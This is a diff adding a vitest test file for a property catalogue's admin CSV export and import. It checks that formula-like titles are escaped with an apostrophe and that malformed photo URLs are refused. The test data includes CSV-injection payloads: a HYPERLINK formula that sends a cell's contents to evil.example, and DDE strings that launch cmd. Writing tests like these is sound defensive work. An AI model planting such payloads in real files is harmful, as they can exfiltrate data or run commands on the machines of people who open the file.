@@ -1,0 +1,138 @@
+// Catalogue files an attacker or an accident sends (decisions 0041, 0060): photo addresses the
+// fetch cannot parse, refused at the preview with their row and column, never found out at the
+// confirmation; texts a spreadsheet would run as formulas, written as text in the CSV export and
+// read back exactly by the import.
+import { parse } from 'csv-parse/sync';
+import { asc } from 'drizzle-orm';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import * as schema from '../../../server/db/schema.ts';
+import { createTestApp, type TestApp } from '../../helpers/app.ts';
+import { loginAs, type LoggedIn } from '../../helpers/auth.ts';
+import { createProperty, deleteAllProperties } from '../../helpers/factories.ts';
+import {
+  HEADER,
+  confirmImport,
+  countProperties,
+  csvFile,
+  newRow,
+  sendImport,
+} from '../../helpers/property-io.ts';
+import { expectClear4xx, reportTally, tally } from './clear-answer.ts';
+
+let t: TestApp;
+let admin: LoggedIn;
+
+beforeAll(async () => {
+  t = await createTestApp({ demo: false });
+  admin = await loginAs(t, 'superadmin');
+}, 120_000);
+afterAll(async () => {
+  reportTally('spreadsheets');
+  await t?.close();
+});
+
+describe('formulas in the CSV export', () => {
+  // Each a title a spreadsheet would run; the last two already start with an apostrophe.
+  const FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1;"Villa")',
+    "+213 cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "'=1+1",
+    "''-1",
+  ];
+  const LEADING_SPACE = ['\t=1+1', '\r=1+1'];
+
+  const exportCsv = async () => {
+    const response = await admin.inject({ url: '/api/admin/property/export?format=csv' });
+    expect(response.statusCode).toBe(200);
+    return response;
+  };
+  const cellsOf = (csv: string, column: string): string[] =>
+    (parse(csv, { bom: true, delimiter: ';', columns: true }) as Record<string, string>[]).map(
+      (row) => row[column]!,
+    );
+
+  it('writes a text that starts like a formula with a leading apostrophe', async () => {
+    await deleteAllProperties(t.services.db);
+    for (const name of [...FORMULAS, ...LEADING_SPACE, 'Villa = 3 pièces', '-']) {
+      await createProperty(t.services.db, { name_fr: name, name_en: `${name} (en)`, images: [] });
+    }
+    const cells = cellsOf((await exportCsv()).body, 'name_fr');
+    for (const name of [...FORMULAS, ...LEADING_SPACE, '-']) {
+      tally.tried += 1;
+      if (!cells.includes(`'${name}`)) tally.wronglyAccepted += 1;
+      expect(cells, JSON.stringify(name)).toContain(`'${name}`);
+    }
+    // Nothing to neutralise: as it is.
+    expect(cells).toContain('Villa = 3 pièces');
+    // No cell of the file starts like a formula.
+    for (const column of ['name_fr', 'name_en']) {
+      for (const cell of cellsOf((await exportCsv()).body, column)) {
+        expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
+      }
+    }
+  });
+
+  it('reads its own CSV back exactly: the import takes off the apostrophe it added', async () => {
+    await deleteAllProperties(t.services.db);
+    for (const name of FORMULAS) {
+      await createProperty(t.services.db, { name_fr: name, name_en: name, images: [] });
+    }
+    const before = await t.services.db
+      .select()
+      .from(schema.properties)
+      .orderBy(asc(schema.properties.id));
+    const exported = await exportCsv();
+    const preview = await sendImport(admin, exported.rawPayload);
+    expect(preview.statusCode).toBe(200);
+    expect(preview.json()).toMatchObject({ update_count: FORMULAS.length, error_count: 0 });
+    expect(
+      preview
+        .json()
+        .rows.map((row: { name_fr: string }) => row.name_fr)
+        .sort(),
+    ).toEqual([...FORMULAS].sort());
+    expect((await confirmImport(admin, preview.json().id)).statusCode).toBe(200);
+    const after = await t.services.db
+      .select()
+      .from(schema.properties)
+      .orderBy(asc(schema.properties.id));
+    expect(after.map((row) => [row.name_fr, row.name_en])).toEqual(
+      before.map((row) => [row.name_fr, row.name_en]),
+    );
+  });
+});
+
+describe('photo addresses in an import', () => {
+  it('refuses at the preview an address the URL parser cannot read, with its row', async () => {
+    const count = await countProperties(t);
+    const addresses = ['http://a]b/x', 'https://[::1/x.jpg', 'http://exa mple.org/x.jpg'];
+    for (const address of addresses) {
+      const file = csvFile([
+        [...HEADER, 'images'],
+        [...newRow('Villa à photo'), address],
+      ]);
+      const preview = await sendImport(admin, file);
+      expect(preview.statusCode, address).toBe(200);
+      tally.tried += 1;
+      const errors = preview.json().rows[0].errors;
+      if (errors.length === 0) tally.wronglyAccepted += 1;
+      expect(errors, address).toEqual([
+        {
+          column: 'images',
+          message: `Adresse de photo invalide : « ${address} » (https://… attendu).`,
+        },
+      ]);
+      const confirm = await confirmImport(admin, preview.json().id);
+      expectClear4xx(confirm, `confirm ${address}`, 409);
+      expect(confirm.json().code).toBe('import.has_errors');
+    }
+    expect(await countProperties(t)).toBe(count);
+  });
+
+  it('saw no 5xx and accepted nothing it had to refuse', () => {
+    expect(tally.serverErrors).toBe(0);
+    expect(tally.wronglyAccepted).toBe(0);
+  });
+});
